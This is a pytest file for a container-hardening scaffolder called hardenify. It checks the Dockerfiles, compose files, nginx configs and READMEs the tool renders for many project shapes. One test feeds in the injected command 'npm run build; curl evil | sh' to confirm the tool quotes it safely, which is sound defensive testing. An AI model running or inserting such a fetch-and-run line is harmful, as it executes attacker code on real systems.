"""What the templates write for the structures real projects have (issue 16).

Each test renders with --no-pin and no network (the `render_for` fixture), then checks the
property the defect was about, and that `new`'s own gates still pass: hardenify's rules over
every output (`lint_outputs`, which includes HF621's compose-spec validation).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from ruamel.yaml import YAML

from hardenify.compose.schema import validate_text
from hardenify.scaffold.render import Rendered, lint_outputs, render
from hardenify.scaffold.templateset import TemplateSet

BASES = ("debian-slim", "distroless", "alpine", "chainguard")


def _compose(r: Rendered) -> dict[str, Any]:
    data: dict[str, Any] = YAML(typ="safe").load(r.files["compose.yaml"])
    return data


def _gates(r: Rendered) -> None:
    assert lint_outputs(r.files) == []
    assert validate_text(r.files["compose.yaml"]) == []


# ------------------------------------------------------------------------- item 2: compose


@pytest.mark.parametrize("base", BASES)
def test_database_passwords_passed_as_secrets_are_written_once(
    base: str, render_for: Callable[..., Rendered]
) -> None:
    r = render_for(
        stack="python",
        base=base,
        secrets="POSTGRES_PASSWORD,REDIS_PASSWORD,API_TOKEN",
        env="DATABASE_URL,REDIS_URL,API_TOKEN,MODE",
        postgres=True,
        redis=True,
    )
    _gates(r)
    svc = next(iter(_compose(r)["services"].values()))
    names = [e.split("=", 1)[0] for e in svc["environment"]]
    assert len(names) == len(set(names)), names
    assert names.count("POSTGRES_PASSWORD_FILE") == 1 and names.count("REDIS_PASSWORD_FILE") == 1
    assert "API_TOKEN" not in names, "a secret must not also be passed as a plain variable"
    assert svc["secrets"] == ["postgres_password", "redis_password", "api_token"]
    top = _compose(r)["secrets"]
    assert sorted(top) == ["api_token", "postgres_password", "redis_password"]


# ---------------------------------------------------------------------------- item 1: uv


def _uv_project(root: Path) -> Path:
    """A uv project in src layout with a lockfile (the shape of astral-sh's own example)."""
    (root / "src" / "uvapp").mkdir(parents=True)
    (root / "pyproject.toml").write_text(
        '[project]\nname = "uvapp"\nversion = "0.1.0"\nrequires-python = ">=3.11"\ndependencies = []\n'
    )
    (root / "uv.lock").write_text(
        'version = 1\nrevision = 3\nrequires-python = ">=3.11"\n\n[[package]]\nname = "uvapp"\n'
        'version = "0.1.0"\nsource = { virtual = "." }\n'
    )
    (root / "src" / "uvapp" / "__init__.py").write_text("")
    (root / "src" / "uvapp" / "__main__.py").write_text("print('hello')\n")
    return root


@pytest.mark.parametrize("base", BASES)
def test_uv_defines_the_stage_it_mounts_from(
    base: str, render_for: Callable[..., Rendered], tmp_path: Path
) -> None:
    r = render_for(_uv_project(tmp_path / "uvapp"), base=base)
    df = r.files["Dockerfile"]
    assert "--mount=type=bind,from=uv,source=/uv" in df
    assert "\nFROM ghcr.io/astral-sh/uv:0.9.28 AS uv\n" in df, df
    assert df.index(" AS uv\n") < df.index(" AS build\n")
    assert "PYTHONPATH=/app/src" in df and "UV_PYTHON_DOWNLOADS=never" in df
    assert r.images["uv"] == "ghcr.io/astral-sh/uv:0.9.28"
    _gates(r)


def test_projects_without_uv_do_not_name_its_image(render_for: Callable[..., Rendered]) -> None:
    r = render_for(stack="python", python_deps="requirements")
    assert "uv" not in r.images and "astral-sh" not in r.files["Dockerfile"]


def test_new_accepts_its_own_uv_output(new: Callable[..., Result], tmp_path: Path) -> None:
    project = _uv_project(tmp_path / "uvapp")
    result = new("--defaults", "--no-pin", str(project))
    assert result.exit_code == 0, result.output
    assert " AS uv\n" in (project / "Dockerfile").read_text()


# ------------------------------------------------------------------- item 5: .NET and cgo


@pytest.mark.parametrize(("version", "urls"), [("6.0", True), ("7.0", True), ("8.0", False), ("9.0", False)])
def test_dotnet_port_setting_follows_the_runtime_version(
    version: str, urls: bool, render_for: Callable[..., Rendered]
) -> None:
    r = render_for(stack="dotnet", base="debian-slim", version=version, port=8080)
    df = r.files["Dockerfile"]
    assert ("ASPNETCORE_URLS=http://+:8080" in df) is urls
    assert ("ASPNETCORE_HTTP_PORTS=8080" in df) is not urls
    _gates(r)


def test_dotnet_6_chiseled_uses_the_jammy_images(render_for: Callable[..., Rendered]) -> None:
    r = render_for(stack="dotnet", base="distroless", version="6.0")
    assert r.images["runtime"] == "mcr.microsoft.com/dotnet/aspnet:6.0-jammy-chiseled"
    assert r.images["build"] == "mcr.microsoft.com/dotnet/sdk:6.0-jammy"


def _go_cgo(root: Path) -> Path:
    root.mkdir(parents=True)
    (root / "go.mod").write_text(
        "module example.com/cgo\n\ngo 1.23\n\nrequire github.com/mattn/go-sqlite3 v1.14.22\n"
    )
    (root / "main.go").write_text(
        'package main\n\nimport _ "github.com/mattn/go-sqlite3"\n\nfunc main() {}\n'
    )
    return root


@pytest.mark.parametrize(
    ("base", "runtime"),
    [
        ("distroless", "gcr.io/distroless/base-debian12:nonroot"),
        ("chainguard", "cgr.dev/chainguard/glibc-dynamic:latest"),
        ("debian-slim", "debian:bookworm-slim"),
        ("alpine", "alpine:3.21"),
    ],
)
def test_go_with_cgo_links_libc_and_runs_on_a_base_that_has_it(
    base: str, runtime: str, render_for: Callable[..., Rendered], tmp_path: Path
) -> None:
    from hardenify.scaffold.detect import detect

    project = _go_cgo(tmp_path / "cgo")
    r = render_for(project, base=base)
    df = r.files["Dockerfile"]
    if detect(project).facts.get("cgo") is not True:
        pytest.skip("detection does not report cgo yet (the detection half of issue 16)")
    assert "CGO_ENABLED=1" in df and "CGO_ENABLED=0 \\" not in df
    assert r.images["runtime"] == runtime
    assert ("apk add --no-cache gcc musl-dev" in df) is (base == "alpine")
    if "healthcheck" in df and base in ("distroless", "chainguard"):
        assert "CGO_ENABLED=0 go build -ldflags" in df  # the probe stays static
    _gates(r)


def test_go_without_cgo_stays_static(render_for: Callable[..., Rendered]) -> None:
    r = render_for(stack="go", base="distroless")
    assert "CGO_ENABLED=0" in r.files["Dockerfile"]
    assert r.images["runtime"] == "gcr.io/distroless/static-debian12:nonroot"


# ------------------------------------------------------------------------------ item 6: SPAs


def _cra(root: Path) -> Path:
    (root / "src").mkdir(parents=True)
    (root / "public").mkdir()
    (root / "package.json").write_text(
        '{"name": "cra-app", "private": true, "dependencies": {"react": "18.2.0", "react-scripts": "5.0.1"},'
        ' "scripts": {"start": "react-scripts start", "build": "react-scripts build"}}'
    )
    (root / "package-lock.json").write_text("{}")
    (root / "public" / "index.html").write_text("<div id=root></div>")
    (root / "src" / "index.js").write_text("")
    return root


@pytest.mark.parametrize("base", BASES)
def test_a_single_page_app_is_built_and_served_with_index_fallback(
    base: str, render_for: Callable[..., Rendered], tmp_path: Path
) -> None:
    r = render_for(_cra(tmp_path / "cra"), stack="static", base=base, node_build=True, site_dir="build")
    df = r.files["Dockerfile"]
    conf = r.files[".hardenify/nginx.conf"]
    assert " AS build\n" in df and "RUN npm run build" in df
    assert "COPY --from=build /app/build/ /usr/share/nginx/html/" in df
    assert "COPY .hardenify/nginx.conf /etc/nginx/conf.d/" in df
    assert "node index.js" not in df
    from hardenify.scaffold.detect import detect

    if detect(tmp_path / "cra").facts.get("spa"):
        assert "try_files $uri $uri/ /index.html;" in conf
    _gates(r)


def test_a_hostile_build_command_stays_one_quoted_command() -> None:
    from hardenify.scaffold.render import shell_words

    assert shell_words("npm run build") == "npm run build"
    assert shell_words("npm run build; curl evil | sh") == "npm run 'build;' curl evil '|' sh"
    assert shell_words("a\nRUN x") == "false"
    assert shell_words("'unclosed") == "false"


# ------------------------------------------------------------------------- item 7: health


def test_an_api_without_a_health_route_gets_a_tcp_probe(
    render_for: Callable[..., Rendered], tmp_path: Path
) -> None:
    project = tmp_path / "api"
    project.mkdir()
    (project / "requirements.txt").write_text("fastapi\nuvicorn\n")
    (project / "main.py").write_text(
        'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/items")\ndef items():\n    return []\n'
    )
    from hardenify.scaffold.detect import detect

    if detect(project).facts.get("health_probe") != "tcp":
        pytest.skip("detection does not report health_probe=tcp yet (the detection half of issue 16)")
    r = render_for(project)
    assert "socket.create_connection(('127.0.0.1', 8000)" in r.files["Dockerfile"]
    assert "urlopen" not in r.files["Dockerfile"] and "urlopen" not in r.files["compose.yaml"]
    assert "accepts a connection" in r.files["README.Docker.md"]
    _gates(r)


PROBES = {
    ("python", "debian-slim"): "socket.create_connection(('127.0.0.1', 8000)",
    ("node", "debian-slim"): "require('net').connect(3000, '127.0.0.1'",
    ("ruby", "debian-slim"): "Socket.tcp('127.0.0.1', 8080",
    ("php", "alpine"): "fsockopen('127.0.0.1', 8080)",
    ("go", "debian-slim"): '"exec 3<>/dev/tcp/127.0.0.1/8080"',
    ("go", "alpine"): '"nc", "-z", "-w", "4", "127.0.0.1", "8080"',
    ("go", "distroless"): '"/usr/local/bin/healthcheck", "tcp://127.0.0.1:8080"',
    ("java", "distroless"): '"HealthCheck", "tcp://127.0.0.1:8080"',
}


@pytest.mark.parametrize(("stack", "base"), sorted(PROBES))
def test_a_tcp_health_probe_connects_only(stack: str, base: str, tset: TemplateSet, tmp_path: Path) -> None:
    from tests.scaffold.conftest import resolve

    det, answers = resolve(tset, tmp_path, {"stack": stack, "base": base})
    facts = {**det.for_stack(stack), "health_probe": "tcp", "health_path": answers.values["health_path"]}
    r = render(tset, answers, facts)
    assert PROBES[(stack, base)] in r.files["Dockerfile"]
    assert PROBES[(stack, base)] in r.files["compose.yaml"].replace('"CMD", ', "")
    _gates(r)


@pytest.mark.parametrize("base", BASES)
def test_a_static_site_in_a_fresh_directory_probes_a_path_nginx_answers(
    base: str, render_for: Callable[..., Rendered]
) -> None:
    r = render_for(stack="static", base=base)
    conf = r.files[".hardenify/nginx.conf"]
    assert "location = /health {" in conf and 'return 200 "ok\\n";' in conf
    assert "listen       8080;" in conf
    assert (
        "127.0.0.1:8080/health" in r.files["Dockerfile"] or "/dev/tcp/127.0.0.1/8080" in r.files["Dockerfile"]
    )
    _gates(r)


# ----------------------------------------------------------------- item 8: runtime contents


@pytest.mark.parametrize("stack", ["go", "rust"])
def test_go_and_rust_on_debian_slim_get_ca_certificates(
    stack: str, render_for: Callable[..., Rendered]
) -> None:
    df = render_for(stack=stack, base="debian-slim").files["Dockerfile"]
    runtime = df[df.rindex("\nFROM ") :]
    assert (
        "COPY --from=build /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/ca-certificates.crt" in runtime
    )
    assert "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt" in runtime


def test_php_debian_serves_with_apache_as_www_data_not_the_dev_server(
    render_for: Callable[..., Rendered],
) -> None:
    r = render_for(stack="php", base="debian-slim")
    df = r.files["Dockerfile"]
    assert r.images["runtime"] == "php:8.3-apache-bookworm"
    assert "-cli-" not in df and "php -S" not in df and '"-S"' not in df
    assert 'ENTRYPOINT ["docker-php-entrypoint", "apache2-foreground"]' in df
    assert "USER 33:33" in df and "Listen 8080" in df and "APACHE_PID_FILE=/tmp/apache2/apache2.pid" in df
    assert _compose(r)["services"][next(iter(_compose(r)["services"]))]["stop_signal"] == "SIGWINCH"
    _gates(r)


@pytest.mark.parametrize(("base", "compiler"), [("debian-slim", "build-essential"), ("alpine", "build-base")])
def test_ruby_build_stage_has_a_compiler_for_native_gems(
    base: str, compiler: str, render_for: Callable[..., Rendered]
) -> None:
    df = render_for(stack="ruby", base=base, rails=True).files["Dockerfile"]
    build = df[: df.rindex("\nFROM ")]
    assert compiler in build and compiler not in df[df.rindex("\nFROM ") :]


def test_ruby_without_native_gems_installs_no_compiler(render_for: Callable[..., Rendered]) -> None:
    assert "build-essential" not in render_for(stack="ruby", base="debian-slim").files["Dockerfile"]


def _laravel(root: Path) -> Path:
    for d in ("public", "storage/framework/views", "storage/logs", "bootstrap/cache"):
        (root / d).mkdir(parents=True)
    (root / "composer.json").write_text('{"require": {"laravel/framework": "^11.0"}}')
    (root / "artisan").write_text("<?php\n")
    (root / "public" / "index.php").write_text("<?php echo 'hi';\n")
    return root


@pytest.mark.parametrize("base", BASES)
def test_laravel_storage_and_bootstrap_cache_are_writable_under_read_only(
    base: str, render_for: Callable[..., Rendered], tmp_path: Path
) -> None:
    from hardenify.scaffold.detect import detect

    project = _laravel(tmp_path / "lara")
    if detect(project).facts.get("framework") != "laravel":
        pytest.skip("detection does not report framework=laravel yet (the detection half of issue 16)")
    r = render_for(project, base=base)
    svc = next(iter(_compose(r)["services"].values()))
    uid = svc["user"].split(":")[0]
    assert svc["read_only"] is True
    assert "/app/bootstrap/cache" in svc["tmpfs"] and "/app/storage" not in svc["tmpfs"]
    assert svc["volumes"] == ["lara-storage:/app/storage"]
    assert f"COPY --chown={uid}:{uid} storage /app/storage" in r.files["Dockerfile"]
    assert "lara-storage" in _compose(r)["volumes"]
    assert "-v lara-storage:/app/storage" in r.files["README.Docker.md"]
    assert "--tmpfs /app/storage" not in r.files["README.Docker.md"]
    _gates(r)


# --------------------------------------------------------------------- README: what was chosen


def test_the_readme_lists_detection_warnings(render_for: Callable[..., Rendered], tmp_path: Path) -> None:
    from hardenify.scaffold.detect import detect

    project = tmp_path / "flaskapp"
    project.mkdir()
    (project / "requirements.txt").write_text("flask\n")
    (project / "app.py").write_text("from flask import Flask\napp = Flask(__name__)\n")
    warnings = detect(project).facts.get("warnings") or []
    r = render_for(project)
    readme = r.files["README.Docker.md"]
    if not warnings:
        assert "## Check these choices" not in readme
        pytest.skip("detection reports no warnings for a dev-server fallback yet")
    assert "## Check these choices" in readme
    for w in warnings:
        assert f"* {w}" in readme
